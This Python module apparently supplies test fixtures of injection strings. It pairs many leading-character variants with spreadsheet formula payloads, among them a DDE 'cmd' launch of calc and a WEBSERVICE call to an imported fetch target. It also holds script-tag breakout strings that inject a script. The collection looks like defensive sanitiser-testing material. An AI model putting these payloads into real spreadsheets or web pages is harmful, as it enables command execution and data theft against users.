"""What begins a formula in a table, and what ends the element that data stand in."""

from __future__ import annotations

from itertools import product

from .signs import FETCH, RUN

FORMULAS = tuple(
    f"{before}{formula}"
    for before, formula in product(
        (
            *(
                "\t",
                "\r",
                "\n",
                "\r\n",
                " \t",
                "\x00",
                "\x0b",
                "\x1c",
                "\x85",
                "\u00a0",
                "\u2003",
                "\u200b",
            ),
            *(
                "\u200e",
                "\u2060",
                "\ufeff",
                "\u00ad",
                "\u3000",
                '"',
                "'",
                '"\t',
                "x\n",
                "x\t",
                ",",
                ";",
                '",',
            ),
        ),
        (
            *(
                "=1+1",
                "\uff1dHYPERLINK(1)",
                "@SUM(1)",
                "-2+3+cmd|' /C calc'!A0",
                "+1",
                "\u2212",
                "\ufe62",
                "\u207a1",
            ),
            f'=WEBSERVICE("https:{FETCH}")',
        ),
    )
)
SCRIPT_ENDS = tuple(
    f"{before}{end}{after}"
    for before, end, after in product(
        ("", '"', '\\"', "\u2028", "\\"),
        (
            "</script>",
            "</SCRIPT\t>",
            "</script/x>",
            "<!--<script>",
            "--></script>",
            "]]></script>",
            "<\\/script>",
        ),
        (f"<script>{RUN}</script>", f";{RUN}//", '"}]'),
    )
)
